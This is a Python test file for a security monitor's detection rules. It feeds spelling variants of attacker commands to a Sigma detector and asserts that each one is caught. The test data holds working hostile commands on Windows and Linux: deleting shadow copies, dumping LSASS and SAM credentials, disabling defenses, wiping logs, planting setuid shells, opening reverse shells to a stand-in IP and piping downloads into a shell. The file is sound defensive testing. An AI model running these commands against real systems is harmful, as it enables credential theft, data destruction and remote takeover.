"""Whoever attacks spells a command as they like: case, blanks, quotes, paths, and options in each form that works.

A rule that one of these gets by is no rule. What a shell takes away before a program is started (carets, backticks)
never comes here.
"""

from __future__ import annotations

import pytest

from limen.monitor.detections.own_rules import own_rules
from limen.monitor.detections.sigma import SigmaDetector
from limen.monitor.normal_form.event import NormalEvent

POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
CODE = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcA"
FILES = {one.id: one.about.file for one in own_rules().rules}

WINDOWS = {
    "windows/shadow-copies-deleted.yml": (
        "VSSADMIN.EXE   Delete  SHADOWS /all",
        '"C:\\Windows\\System32\\vssadmin.exe" delete shadows /quiet',
        "vssadmin resize shadowstorage /for=c: /on=c: /maxsize=401MB",
        "wmic.exe SHADOWCOPY delete",
        "wmic shadowcopy where \"ID='x'\" delete /nointeractive",
        "wbadmin  DELETE  systemstatebackup -keepVersions:0",
        "bcdedit  /set {default}  recoveryenabled   NO",
        'bcdedit /set {default} bootstatuspolicy "ignoreallfailures"',
        "powershell -c Get-CimInstance Win32_ShadowCopy | Remove-CimInstance",
    ),
    "windows/powershell-hidden.yml": (
        f"powershell -e {CODE}",
        f"powershell.exe -EncodedCommand {CODE}",
        f"powershell -eNco {CODE}",
        f"powershell /enc {CODE}",
        f"powershell –ec {CODE}",
        f'powershell -nop -w 1 -enc "{CODE}"',
    ),
    "windows/protection-switched-off-by-command.yml": (
        "powershell set-mppreference -disablerealtimemonitoring 1 -disableioavprotection $TRUE",
        "netsh  advfirewall  set currentprofile  STATE   off",
        "netsh firewall set opmode mode disable",
        'sc.exe  STOP  "WinDefend"',
        "sc config WinDefend start= disabled",
    ),
    "windows/passwords-dumped.yml": (
        r"rundll32.exe C:\windows\System32\comsvcs.dll, #+000024 612 c:\x.dmp full",
        r"RUNDLL32 comsvcs.dll MINIDUMP 612 c:\x full",
        r"procdump64.exe -accepteula -MA lsass.exe x",
        r"procdump -mp lsass x",
        r"REG  SAVE  HKEY_LOCAL_MACHINE\SAM  c:\x",
    ),
    "windows/downloads-with-windows-tools.yml": (
        "CERTUTIL.exe -URLCACHE -f http://203.0.113.9/a a",
        "certutil /verifyctl /split /f http://203.0.113.9/a",
    ),
}
LINUX = {
    "linux/logs-removed.yml": (
        "/usr/bin/rm -rf -- /var/log/auth.log.1",
        "shred  -u /var/log/secure",
        "truncate -s 0 /var/log/syslog",
        "sh -c : > /var/log/wtmp",
        "dd if=/dev/null of=/var/log/lastlog",
    ),
    "linux/protection-off.yml": (
        "/bin/systemctl --now disable clamav-daemon.service",
        "systemctl mask auditd limen-agent",
        "service fail2ban stop",
        "/usr/sbin/nft  flush  ruleset",
        "iptables -P INPUT ACCEPT",
    ),
    "linux/setuid-shell.yml": (
        "/usr/bin/chmod 6755 /tmp/sh",
        "chmod a+xs,u+s /var/tmp/.cache",
        "chmod +s /usr/bin/find",
    ),
    "linux/shell-to-the-outside.yml": (
        "/bin/bash -c exec 5<>/dev/tcp/203.0.113.9/443",
        "ncat 203.0.113.9 443 --exec /bin/bash",
        "socat tcp:203.0.113.9:443 exec:/bin/sh,pty",
        "perl -e use Socket;socket(S,PF_INET,SOCK_STREAM,6);exec('/bin/sh -i')",
    ),
    "linux/download-piped-to-a-shell.yml": (
        "bash -c curl -fsSL http://203.0.113.9:8080/x|bash",
        "sh -c wget -qO- http://203.0.113.9/x | sudo sh",
        "sh -c echo aWQ= | base64 --decode | bash",
    ),
}


def found(event: NormalEvent) -> set[str]:
    return {FILES.get(hit.rule, "") for hit in SigmaDetector(own_rules()).feed(event)}


@pytest.mark.parametrize(
    ("rule", "command"), [(rule, command) for rule, commands in WINDOWS.items() for command in commands]
)
def test_on_windows(rule: str, command: str) -> None:
    name = command.strip('"').partition(" ")[0].lower().rpartition("\\")[2].removesuffix(".exe")
    program = POWERSHELL if name == "powershell" else rf"C:\Windows\System32\{name.upper()}.EXE"
    said = {"EventID": 1, "Image": program, "CommandLine": command, "ParentImage": r"C:\Windows\explorer.exe"}
    event = NormalEvent(
        uid="e", at=1, received_at=1, source="pc", product="windows", category="process_creation", service="sysmon",
        process=program, command_line=command, fields=said,
    )  # fmt: skip
    assert rule in found(event)


@pytest.mark.parametrize(
    ("rule", "command"), [(rule, command) for rule, commands in LINUX.items() for command in commands]
)
def test_on_linux(rule: str, command: str) -> None:
    event = NormalEvent(
        uid="e", at=1, received_at=1, source="web1", product="linux", service="auditd", kind="EXECVE",
        host="web1", command_line=command,
    )  # fmt: skip
    assert rule in found(event)
